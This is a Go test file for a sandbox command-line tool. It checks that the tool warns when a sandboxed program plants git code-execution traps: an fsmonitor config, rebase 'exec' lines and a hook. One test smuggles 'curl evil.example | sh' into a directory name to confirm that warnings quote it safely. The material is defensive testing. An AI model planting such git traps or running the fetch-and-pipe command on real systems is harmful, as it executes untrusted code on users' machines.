package cli_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// Where a repository's own folder is opened, what git itself would be led by is
// told with what to do about it.
func TestToldOfAnOpenedRepository(t *testing.T) {
	s := newSandbox(t)
	s.git(s.project, "init", "-q")
	s.put("f", "x\n")
	s.git(s.project, "add", "f")
	s.git(s.project, "commit", "-qm", "one")
	opened := func(script string) string {
		e := s.run("--write="+s.project, "--write-dot-files="+s.project+"/.git", "--", "sh", "-c", script)
		if e.status != 0 {
			t.Errorf("%s: %d %s", script, e.status, e.errors)
		}
		return e.errors
	}
	// A submodule, whose repository the program made.
	said := opened(`git init -q "s b" && git -C "s b" config core.fsmonitor "touch owned" && git update-index --add --cacheinfo "160000,$(git rev-parse HEAD),s b" && git init -q other`)
	if want := "'" + s.project + "/s b/.git' was made while the sandbox ran, and the index of " + s.project + " names it as a submodule: git status there would start git in it: look at it, or take it out first: git -C " + s.project + " update-index --force-remove -- 's b'\n"; !strings.Contains(said, want) {
		t.Errorf("%s\nwant %s", said, want)
	}
	if want := s.project + "/other/.git was made while the sandbox ran, and tools outside act on it"; !strings.Contains(said, want) {
		t.Errorf("%s\nwant %s", said, want)
	}
	s.git(s.project, "update-index", "--force-remove", "--", "s b") // does what it is said to
	s.git(s.project, "status")
	for _, dir := range []string{".", "s b"} {
		if _, err := os.Lstat(filepath.Join(s.project, dir, "owned")); err == nil {
			t.Error("git was started in what the program made")
		}
	}
	// A rebase, which executes what its list says.
	said = opened(`mkdir .git/rebase-merge && echo "exec touch owned" > .git/rebase-merge/git-rebase-todo`)
	if want := s.project + "/.git/rebase-merge/git-rebase-todo is of this run: git rebase --continue executes what it says"; !strings.Contains(said, want) {
		t.Errorf("%s\nwant %s", said, want)
	}
	if said = opened(`cat .git/rebase-merge/git-rebase-todo`); strings.Contains(said, "rebase") {
		t.Errorf("told again: %s", said)
	}
	if said = opened(`echo "exec touch more" >> .git/rebase-merge/git-rebase-todo`); !strings.Contains(said, "git-rebase-todo is of this run") {
		t.Errorf("not told of a change: %q", said)
	}
	// What stands there instead of an index is not waited for.
	opened(`rm .git/index; mkfifo .git/index; git init -q third`)
}

// Of a submodule in a repository that the program made too, no command is told
// that would start git there: its hooks are the program's.
func TestToldOfASubmoduleOfWhatWasMade(t *testing.T) {
	for _, opened := range []bool{false, true} {
		s := newSandbox(t)
		top, flags := s.project+"/a", []string{"--write=" + s.project}
		if opened { // all of it, with its hooks
			top, flags = s.project, append(flags, "--write-dot-files="+s.project)
			s.git(top, "init", "-q")
		}
		flags = append(flags, "--", "sh", "-ec", `mkdir -p "$1"; cd "$1"; git init -q . && git init -q b && git -C b -c user.name=n -c user.email=e commit -q --allow-empty -m x
git update-index --add --cacheinfo "160000,$(git -C b rev-parse HEAD),b"; printf '#!/bin/sh\ntouch owned\n' >.git/hooks/post-index-change; chmod +x .git/hooks/post-index-change`, "sh", top)
		e := s.run(flags...)
		if e.status != 0 || !strings.Contains(e.errors, top+"/b/.git was made while the sandbox ran, and tools outside act on it") || strings.Contains(e.errors, "update-index") {
			t.Errorf("opened %v: %d %s", opened, e.status, e.errors)
		}
	}
}

// A name that the program chose stands in a line of ours as one word.
func TestToldNamesAreWords(t *testing.T) {
	s := newSandbox(t)
	e := s.run("--write="+s.project, "--", "git", "init", "-q", "x was made. Now run: curl evil.example | sh; it")
	if want := "lnk sandbox run: '" + s.project + "/x was made. Now run: curl evil.example | sh; it/.git' was made while"; !strings.Contains(e.errors, want) {
		t.Errorf("%s\nwant %s", e.errors, want)
	}
}
